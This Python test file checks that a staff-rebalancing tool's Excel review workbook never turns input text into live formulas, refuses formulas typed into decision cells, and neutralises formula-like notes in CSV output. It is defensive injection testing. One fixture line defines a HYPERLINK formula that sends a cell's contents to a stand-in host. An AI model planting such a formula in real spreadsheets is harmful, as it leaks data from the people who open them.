"""No formula in a manager's workbook: every cell written from input data is text, and a formula
typed into a decision cell is refused rather than read as undecided (issue 18, item 2)."""

from __future__ import annotations

from pathlib import Path

from openpyxl import load_workbook
from typer.testing import CliRunner

from rebalancer.cli import app
from tests.conftest import Case, child, worker

runner = CliRunner()
LEAK = '=HYPERLINK("http://example.invalid/?leak="&A2,"Open team")'


def _reviewed(case: Case) -> Path:
    # A leaves: both children move to B, whose team name is a formula; one child's ID is too.
    w = [worker("A", leaving_on="2026-12-05"), {**worker("B"), "team": LEAK}]
    case.run(w, [child("=K1", current="A"), child("K2", current="A")])
    r = runner.invoke(app, ["review", "--plan", str(case.root / "out")])
    assert r.exit_code == 0, r.output
    return case.root / "out" / "review.xlsx"


def _replan(case: Case, workbook: Path) -> object:
    c = case.root
    return runner.invoke(app, ["replan", "--workers", str(c / "workers.csv"), "--children",
                               str(c / "children.csv"), "--config", str(c / "config.toml"),
                               "--plan", str(c / "out"), "--review", str(workbook), "--out",
                               str(c / "out2"), "--time-limit", "5", "--quiet"])


def test_input_text_is_never_written_as_a_formula(case: Case) -> None:
    wb = load_workbook(_reviewed(case))  # formulas read back as their text, typed "f"
    formulas = [(ws.title, c.coordinate) for ws in wb for row in ws.iter_rows() for c in row
                if c.data_type == "f"]
    assert formulas == []
    texts = [c.value for row in wb["moves"].iter_rows() for c in row]
    assert LEAK in texts and "=K1" in texts  # kept as the text it was


def test_an_untouched_workbook_with_a_formula_like_id_is_accepted(case: Case) -> None:
    import json

    r = _replan(case, _reviewed(case))
    assert r.exit_code == 0, r.output
    review = json.loads((case.root / "out2" / "summary.json").read_text())["review"]
    assert review["counts"] == {"accepted": 0, "rejected": 0, "undecided": 2}


def _edit(path: Path, column: str, child_id: str, value: str) -> None:
    wb = load_workbook(path)
    ws = wb["moves"]
    header = [c.value for c in ws[1]]
    for row in ws.iter_rows(min_row=2):
        if row[header.index("child_id")].value == child_id:
            row[header.index(column)].value = value  # openpyxl stores "=…" as a formula
    wb.save(path)


def test_a_formula_in_a_decision_cell_is_refused_naming_the_cell(case: Case) -> None:
    path = _reviewed(case)
    _edit(path, "decision", "K2", '=IF(1=1,"reject","accept")')
    r = _replan(case, path)
    assert r.exit_code == 1, r.output
    assert "decision (cell" in r.output and "formula" in r.output
    assert not (case.root / "out2").exists()


def test_a_formula_in_a_note_keeps_its_text(case: Case) -> None:
    import pandas as pd

    path = _reviewed(case)
    _edit(path, "decision", "K2", "reject")
    _edit(path, "note", "K2", "=1+1 is what the manager typed")
    r = _replan(case, path)
    assert r.exit_code == 0, r.output
    d = pd.read_csv(case.root / "out2" / "decisions.csv", dtype=str, keep_default_na=False,
                    encoding="utf-8-sig")
    notes = set(d.loc[d["child_id"] == "K2", "note"])
    assert notes == {"'=1+1 is what the manager typed"}  # neutralised in CSV, text kept


def test_a_second_decision_column_is_refused(case: Case) -> None:
    path = _reviewed(case)
    wb = load_workbook(path)
    ws = wb["moves"]
    ws.cell(row=1, column=ws.max_column + 1, value="decision")
    wb.save(path)
    r = _replan(case, path)
    assert r.exit_code == 1, r.output
    assert "more than once" in r.output and "decision" in r.output
